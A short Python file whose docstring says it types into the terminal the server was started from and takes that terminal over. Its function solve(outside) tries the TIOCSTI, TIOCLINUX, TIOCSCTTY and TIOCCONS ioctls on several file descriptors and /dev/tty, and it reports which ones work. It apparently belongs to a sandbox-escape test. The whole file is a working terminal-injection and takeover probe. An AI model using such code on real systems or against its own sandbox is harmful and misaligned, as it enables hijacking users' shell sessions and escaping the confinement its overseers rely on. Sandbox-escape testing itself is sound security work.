"""Types into the terminal the server was started from (TIOCSTI), and takes it over."""

import fcntl
import os


def solve(outside):
    got = []
    numbers = list(range(10))
    try:
        numbers.append(os.open("/dev/tty", os.O_RDWR))
    except OSError:
        pass
    for number in numbers:
        for name, request, value in (
            ("TIOCSTI", 0x5412, b"x"),
            ("TIOCLINUX", 0x541C, b"\x02"),
            ("TIOCSCTTY", 0x540E, b"\0"),
            ("TIOCCONS", 0x541D, b""),
        ):
            try:
                fcntl.ioctl(number, request, value)
                got.append(f"{name} on {number}")
            except OSError:
                pass
    return got
